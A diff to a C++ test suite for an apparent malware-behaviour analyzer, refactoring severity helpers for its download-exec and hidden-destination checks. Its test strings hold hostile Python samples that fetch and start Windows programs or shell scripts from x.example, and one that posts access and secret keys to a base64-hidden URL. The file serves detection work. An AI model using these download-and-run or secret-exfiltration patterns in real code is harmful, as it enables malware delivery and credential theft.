@@ -419,11 +419,8 @@ TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
 // fetches and starts is a Windows program it names; other downloads keep
 // their severity.
 TEST(Behaviour, DownloadedWindowsProgramStartedIsCritical) {
-  auto critical = [](std::string_view code) {
-    auto fs = Analyze(code, Phase::kRuntime);
-    const Finding* f = Find(fs, "download-exec");
-    return f ? f->severity == Severity::kCritical : false;
-  };
+  auto sev = [](std::string_view code) { return testing::SeverityOf(code, "download-exec"); };
+  auto critical = [&](std::string_view code) { return sev(code) == Severity::kCritical; };
   EXPECT_TRUE(critical("import os, requests\ndef f():\n    r = requests.get('https://x.example/d')\n"
                        "    open('C://K//svc.exe', 'wb').write(r.content)\n"
                        "    os.system('start C://K//svc.exe')\n"));
@@ -433,11 +430,6 @@ TEST(Behaviour, DownloadedWindowsProgramStartedIsCritical) {
   EXPECT_TRUE(critical("import os\nos.system('curl.exe -OLJ https://x.example/m.exe')\n"
                        "os.system('m.exe -w 1')\n"));
   // The same downloads of a script or an archive: still high.
-  auto sev = [](std::string_view code) {
-    auto fs = Analyze(code, Phase::kRuntime);
-    const Finding* f = Find(fs, "download-exec");
-    return f ? f->severity : Severity::kInfo;
-  };
   EXPECT_EQ(sev("import os, subprocess, urllib.request\ndef f(url):\n"
                 "    p = os.path.join('d', 'tool.sh')\n"
                 "    urllib.request.urlretrieve(url, p)\n    subprocess.run(['sh', p])\n"),
@@ -639,11 +631,7 @@ TEST(Behaviour, CodeDecryptedThroughSeveralStepsIsDecoded) {
 // What is sent to a hidden address: values named as secrets (in the call or
 // in what its arguments are assigned) make the call critical.
 TEST(Behaviour, SecretsSentToAHiddenAddress) {
-  auto sev = [](std::string_view code) {
-    auto fs = Analyze(code, Phase::kRuntime);
-    const Finding* f = Find(fs, "hidden-destination");
-    return f ? f->severity : Severity::kInfo;
-  };
+  auto sev = [](std::string_view code) { return testing::SeverityOf(code, "hidden-destination"); };
   EXPECT_EQ(sev("import base64, requests\ndef c(access_key, secret_key):\n"
                 "    data = {'ak': access_key, 'sk': secret_key}\n"
                 "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
